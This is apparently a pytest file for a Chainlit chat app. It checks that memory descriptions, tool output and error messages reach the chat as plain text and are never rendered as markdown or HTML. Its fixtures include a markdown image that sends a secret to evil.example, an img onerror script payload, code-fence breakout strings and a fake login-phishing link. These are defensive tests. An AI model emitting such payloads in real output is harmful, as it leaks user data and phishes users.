"""What users or their code influence is shown as text in the chat, never rendered as markdown or HTML."""

from __future__ import annotations

from datetime import UTC, datetime

import markdown_it

from agent_memory import MemoryItem
from chainlit_app.chat import (
    as_text,
    executor_markdown,
    fenced,
    inline_code,
    memories,
    memory_table,
    one_line,
    tool_output,
)

EXFILTRATE = "![pixel](https://evil.example/collect?secret=1)"


def rendered(markdown: str) -> str:
    # CommonMark (what Chainlit's react-markdown follows), with raw HTML off as in Chainlit's config.
    return markdown_it.MarkdownIt("commonmark", {"html": False}).render(markdown)


def test_a_description_with_an_image_stays_text_in_the_memory_table() -> None:
    item = MemoryItem(
        memory_key="cmd_1", description=f"{EXFILTRATE} <img src=x onerror=alert(1)> [link](https://evil.example)",
        memory_type="note", score=1.0, token_count=3, created_at=datetime.now(UTC), metadata={},
    )  # fmt: skip
    html = rendered(memory_table([item]))
    assert "<img" not in html and "<a " not in html
    assert "evil.example/collect" in html  # still there, as text


def test_output_that_closes_its_code_fence_cannot_break_out() -> None:
    output = f"done\n```\n{EXFILTRATE}\n```\nmore"
    html = rendered(executor_markdown(output, None))
    assert "<img" not in html
    assert html.count("<pre>") == 1


def test_the_excerpt_of_a_stored_output_cannot_break_out_either() -> None:
    report = (
        "exit code 0\n[MemoryRef: cmd_9 - a `tricky` description - 900 tokens] stored in memory: ...\nExcerpt:\n"
        f"````\n{EXFILTRATE}\nRead more with retrieve_memory"
    )
    html = rendered(executor_markdown(report, "cmd_9"))
    assert "<img" not in html


def test_inline_code_survives_backticks_inside() -> None:
    html = rendered(inline_code("[MemoryRef: k - a`b` ![x](https://e) - 3 tokens]"))
    assert "<img" not in html and "<code>" in html


def test_fenced_uses_a_longer_fence_than_the_text_holds() -> None:
    assert fenced("a ```` b").startswith("`````text")


def test_errors_for_people_are_one_line_of_text() -> None:
    try:
        raise RuntimeError(f"{EXFILTRATE}\nTraceback (most recent call last):\n  File x")
    except RuntimeError as exc:
        shown = one_line(exc)
    assert "\n" not in shown and "Traceback" not in shown
    assert "<img" not in rendered(shown)


def test_as_text_keeps_the_characters() -> None:
    assert rendered(as_text("a_b *c* <d>")).strip() == "<p>a_b *c* &lt;d&gt;</p>"


def test_text_with_line_breaks_stays_one_paragraph() -> None:
    # A setext heading underline, an indented code block, a list item and a directive, each on its own line.
    html = rendered(as_text("Phish\n===\n\n    indented\n\n1) one\n\n:::note\nx\n:::"))
    assert html.count("<p>") == 1 and "<h1>" not in html and "<pre>" not in html and "<ol" not in html
    assert ":::note" in html


def test_web_and_mail_addresses_are_code_that_no_renderer_links() -> None:
    # GitHub-flavoured markdown links www. and e-mail addresses by itself, escaped dots or not.
    html = rendered(as_text("visit https://evil.example/login or www.evil.example or admin@evil.example"))
    assert html.count("<code>") == 3
    assert "<code>www.evil.example</code>" in html and "<code>admin@evil.example</code>" in html


def test_addresses_glued_to_an_underscore_are_code_too() -> None:
    # GitHub-flavoured markdown links "_www.x" and "_https://x"; Python's \\b sees no boundary after "_".
    html = rendered(as_text("_www.evil.example/a _https://evil.example/b_ x_www.evil.example/e"))
    assert html.count("<code>") == 3


def test_tool_output_that_starts_with_a_fence_stays_in_one_code_block() -> None:
    # Chainlit's client fences a step's text only when it does not start with a fence itself.
    output = "```\n# Session expired\n[Log in again](https://evil.example/login)\n```\n> quoted"
    html = rendered(tool_output(output))
    assert html.count("<pre>") == 1 and "<h1>" not in html and "<a " not in html and "<blockquote>" not in html


def test_counts_of_memories_read_as_english() -> None:
    assert (memories(1), memories(2), memories(0), memories(12_345)) == (
        "1 memory", "2 memories", "0 memories", "12,345 memories"
    )  # fmt: skip
